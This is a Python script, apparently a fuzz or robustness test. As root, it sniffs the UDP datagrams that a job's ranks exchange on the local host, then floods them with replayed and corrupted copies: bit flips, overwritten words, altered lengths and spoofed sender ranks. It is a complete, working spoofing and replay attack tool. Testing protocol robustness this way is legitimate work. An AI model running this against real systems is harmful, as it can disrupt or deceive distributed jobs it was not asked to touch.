#!/usr/bin/env python3
"""forge_datagrams.py SECONDS: attacks the watchdogs of a job on this host, as a stranger who hears all of its datagrams.

It listens to what the ranks tell one another, then sends them all of it again, as it was and with words, bits and lengths
changed, from an address of its own. Prints how many datagrams it has heard and sent. Needs root: it listens on all devices.
"""
import os
import random
import socket
import struct
import sys
import time

ETH_P_ALL, SO_RCVBUF_BYTES = 3, 1 << 20


def datagram_of(packet):
    """(source, address, port, payload) of a UDP datagram over IPv4 that is in one piece; else None."""
    if len(packet) < 28 or packet[0] >> 4 != 4 or packet[9] != socket.IPPROTO_UDP:
        return None
    header = 4 * (packet[0] & 15)
    if struct.unpack_from(">H", packet, 6)[0] & 0x3FFF:
        return None
    _, port, length, _ = struct.unpack_from(">HHHH", packet, header)
    return socket.inet_ntoa(packet[16:20]), port, packet[header + 8:header + length]


def forgeries(heard, random_source):
    """Endless: what might be taken for a datagram of the job, made of one that was."""
    while True:
        (address, port), letters = random_source.choice(list(heard.items()))
        letter = random_source.choice(letters)
        for _ in range(50):  # as it was
            yield address, port, letter
        for offset in range(0, min(len(letter) - 3, 160), 4):  # other kinds, senders and counters
            for word in (0, 1, 2, 3, 7, 0x7FFFFFFF, 0xFFFFFFFF, random_source.getrandbits(32)):
                yield address, port, letter[:offset] + struct.pack("<I", word) + letter[offset + 4:]
        for bit in range(0, 8 * min(len(letter), 200)):
            changed = bytearray(letter)
            changed[bit // 8] ^= 1 << bit % 8
            yield address, port, bytes(changed)
        for length in range(0, 2001, 7):
            yield address, port, (letter + random_source.randbytes(2000))[:length]
        for sender in range(200):  # strangers' ranks
            for offset in (12, 16, 20, 24):
                yield address, port, letter[:offset] + struct.pack("<i", 1000 + 200 * len(letter) + sender) + letter[offset + 4:]


def main():
    seconds = float(sys.argv[1])
    listening = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(ETH_P_ALL))
    listening.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, SO_RCVBUF_BYTES)
    listening.settimeout(0.01)
    sending = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    random_source = random.Random(17)
    heard, sent, attack, begin = {}, 0, None, None
    deadline = time.monotonic() + 30
    while time.monotonic() < deadline if begin is None else time.monotonic() < begin + seconds:
        try:
            found = datagram_of(listening.recv(65536))
        except TimeoutError:
            found = None
        if found and found[0].startswith("10."):
            letters = heard.setdefault(found[:2], [])
            if len(letters) < 20 and found[2] not in letters:
                letters.append(found[2])
                begin = begin or time.monotonic()
        if begin is None or time.monotonic() < begin + 0.7:
            continue
        attack = attack or forgeries(heard, random_source)
        for _ in range(400):
            address, port, payload = next(attack)
            try:
                sending.sendto(payload, (address, port))
                sent += 1
            except OSError:
                pass
    print(f"heard {sum(map(len, heard.values()))} of {len(heard)} ports, sent {sent}")


main()
